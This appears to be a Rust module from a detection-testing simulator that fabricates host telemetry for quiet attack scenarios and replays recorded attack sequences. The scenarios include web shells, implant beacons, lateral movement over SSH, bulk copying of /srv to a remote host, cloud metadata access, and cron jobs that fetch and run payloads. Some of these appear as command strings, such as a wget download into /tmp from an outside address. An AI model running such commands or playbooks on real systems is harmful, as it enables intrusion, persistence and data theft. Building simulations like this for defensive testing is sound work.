//! What is done to those hosts in the second week: the recordings of `content/sequences`, each below a fitting parent; and
//! attacks that use only what is installed, at a pace that no rule of rates hears.

use crate::replay;
use crate::work::{Kind, Site};
use crate::world::{HOUR, MINUTE, SECOND, Who};
use event::{Event, EventKind, Row};
use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

/// At a site, from a time on.
type Play = dyn Fn(&mut Site, i64);

pub struct Attack {
    pub name: String,
    pub kind: Kind,
    pub play: Box<Play>,
}

fn quiet(name: &str, kind: Kind, play: impl Fn(&mut Site, i64) + 'static) -> Attack {
    Attack { name: name.to_owned(), kind, play: Box::new(play) }
}

pub fn all() -> Vec<Attack> {
    let mut all = vec![
        quiet("web shell runs what is installed and talks out", Kind::Web, |site, at| {
            let php = Arc::clone(&site.own[1]);
            let host = &mut site.host;
            let perl = host.start(at, &php, "/usr/bin/perl", "perl -e ...");
            host.talk(at + 2 * SECOND, &perl, "185.10.20.30", 443);
            host.write(at + 3 * SECOND, &perl, "/var/www/shop/uploads/2026/.cache.php");
        }),
        quiet("php is told to write and to talk, no program starts", Kind::Web, |site, at| {
            let php = Arc::clone(&site.own[1]);
            site.host.write(at, &php, "/var/www/shop/uploads/2026/shell.php");
            site.host.talk(at + MINUTE, &php, "185.10.20.31", 8443);
        }),
        quiet("nginx module with a back door starts a program", Kind::Web, |site, at| {
            let nginx = Arc::clone(&site.own[0]);
            let env = site.host.start(at, &nginx, "/usr/bin/env", "env");
            site.host.talk(at + SECOND, &env, "185.10.20.32", 443);
        }),
        quiet("database runs a program for a query", Kind::Database, |site, at| {
            let postgres = Arc::clone(&site.own[0]);
            let host = &mut site.host;
            let sh = host.start(at, &postgres, "/usr/bin/dash", "sh -c python3 x");
            let python = host.start(at, &sh, "/usr/bin/python3.11", "python3 x");
            host.talk(at + SECOND, &python, "185.10.20.33", 443);
            host.write(at + 2 * SECOND, &python, "/var/lib/postgresql/.x/run.sh");
        }),
        quiet("implant beacons every minute with 20 % jitter", Kind::Builder, |site, at| {
            let runner = Arc::clone(&site.own[0]);
            let host = &mut site.host;
            let bash = host.start(at, &runner, "/usr/bin/bash", "bash --login");
            let implant = host.start(at, &bash, "/var/lib/gitlab-runner/.u/agentd", "agentd");
            let implant = Arc::new(event::Process { unit: None, ..(*implant).clone() });
            let mut at = at;
            for _ in 0..120 {
                at += 48 * SECOND + host.draw.within(24 * SECOND);
                host.talk(at, &implant, "185.10.20.34", 443);
            }
        }),
        quiet("installed interpreter beacons every ten minutes", Kind::Database, |site, at| {
            let systemd = Arc::clone(&site.base.systemd);
            let host = &mut site.host;
            let python =
                host.start(at, &systemd, "/usr/bin/python3.11", "python3 /usr/lib/python3/dist-packages/update.py");
            let mut at = at;
            for _ in 0..60 {
                at += 9 * MINUTE + host.draw.within(2 * MINUTE);
                host.talk(at, &python, "185.10.20.35", 443);
            }
        }),
        quiet("slow scan, a try in two minutes", Kind::People, |site, at| {
            let sshd = Arc::clone(&site.base.sshd);
            let host = &mut site.host;
            let shell = host.log_in(at, &sshd, ("bob", 1011), "10.8.0.31");
            let python = host.start(at + MINUTE, &shell, "/usr/bin/python3.11", "python3 t.py");
            for n in 0..200 {
                host.talk(at + n * 2 * MINUTE, &python, &format!("10.0.7.{n}"), if n % 2 == 0 { 22 } else { 445 });
            }
        }),
        quiet("stolen account at night goes on to new hosts", Kind::People, |site, at| {
            let sshd = Arc::clone(&site.base.sshd);
            let host = &mut site.host;
            let night = at - at.rem_euclid(24 * HOUR) + 2 * HOUR;
            let shell = host.log_in(night, &sshd, ("ann", 1010), "198.18.5.5");
            for (n, to) in ["10.0.2.77", "10.0.2.78", "10.0.2.79"].iter().enumerate() {
                let ssh = host.start(night + n as i64 * MINUTE, &shell, "/usr/bin/ssh", &format!("ssh {to}"));
                host.talk(night + n as i64 * MINUTE, &ssh, to, 22);
            }
            let rclone = host.start(night + 10 * MINUTE, &shell, "/home/ann/.local/r", "r copy /srv remote:");
            host.talk(night + 10 * MINUTE, &rclone, "185.10.20.36", 443);
        }),
        quiet("application in a container is made to start a shell", Kind::Containers, |site, at| {
            let api = Arc::clone(&site.own[1]);
            let host = &mut site.host;
            let sh = host.start(at, &api, "/bin/sh", "sh -c id");
            let wget = host.start(at + SECOND, &sh, "/usr/bin/wget", "wget -q 185.10.20.37/k -O /tmp/k");
            host.talk(at + SECOND, &wget, "185.10.20.37", 80);
            host.write(at + 2 * SECOND, &wget, "/tmp/k");
        }),
        quiet("container talks to the metadata of its cloud and out", Kind::Containers, |site, at| {
            let front = Arc::clone(&site.own[2]);
            let host = &mut site.host;
            host.talk(at, &front, "169.254.169.254", 80);
            host.talk(at + SECOND, &front, "185.10.20.38", 443);
            host.write(at + 2 * SECOND, &front, "/usr/local/lib/node_modules/x/hook.so");
        }),
        quiet("a new job of cron fetches and runs", Kind::Web, |site, at| {
            let cron = Arc::clone(&site.base.cron);
            let host = &mut site.host;
            for n in 0..24 {
                let at = at + n * 10 * MINUTE;
                let job = host.job(at, &cron, "www-data", "/var/tmp/.p/u");
                let own = host.start(at, &job, "/var/tmp/.p/u", "/var/tmp/.p/u");
                host.talk(at + SECOND, &own, "185.10.20.39", 443);
            }
        }),
        quiet("mail helper of the shop is replaced", Kind::Web, |site, at| {
            let php = Arc::clone(&site.own[1]);
            let host = &mut site.host;
            let own = host.start(at, &php, "/var/www/shop/vendor/bin/sendmail", "sendmail -t");
            host.ask(at, &own, "x9.relay-cdn.example");
            host.talk(at + SECOND, &own, "185.10.20.40", 443);
        }),
    ];
    all.extend(recorded());
    all
}

/// Recordings of our sequences, by their names.
fn recorded() -> Vec<Attack> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content/sequences");
    let mut files: Vec<_> = std::fs::read_dir(folder)
        .expect("the content is there")
        .map(|entry| entry.expect("a readable entry").path())
        .filter(|path| path.to_string_lossy().ends_with(".events.json"))
        .collect();
    files.sort();
    let kinds = [Kind::Web, Kind::Database, Kind::Builder, Kind::People, Kind::Containers];
    files
        .iter()
        .enumerate()
        .map(|(at, file)| {
            let text = std::fs::read_to_string(file).expect("a readable file");
            let cases: BTreeMap<String, Vec<Vec<Row>>> = serde_json::from_str(&text).expect("recordings");
            let rows = cases["fires"][0].clone();
            let name = file.file_name().unwrap_or_default().to_string_lossy().replace(".events.json", "");
            let play = move |site: &mut Site, at: i64| play(site, &rows, at);
            Attack { name: format!("sequence {name}"), kind: kinds[at % kinds.len()], play: Box::new(play) }
        })
        .collect()
}

/// A recording at another time; its processes get numbers of their own.
fn play(site: &mut Site, rows: &[Row], at: i64) {
    let first = rows.first().map_or(0, |row| row.time().0);
    let base = site.host.number();
    for row in rows {
        let mut event: Event = replay::event(row);
        event.time.0 = at + event.time.0 - first;
        let renumber = |who: &Who| {
            let mut process = (**who).clone();
            process.key = moved(process.key, base);
            process.parent = process.parent.map(|parent| moved(parent, base));
            Arc::new(process)
        };
        event.process = event.process.as_ref().map(renumber);
        event.parent = event.parent.as_ref().map(renumber);
        if let EventKind::Fork(fork) = &mut event.kind {
            fork.child = moved(fork.child, base);
        }
        site.host.events.push(event);
    }
    site.host.number_from(base + 20_000);
}

fn moved(mut key: event::ProcessKey, base: u32) -> event::ProcessKey {
    // pid 1 and those of the kernel are everybody's.
    if key.tgid > 2 {
        key.tgid = base + key.tgid % 20_000;
        key.start_ticks = u64::from(key.tgid);
    }
    key
}
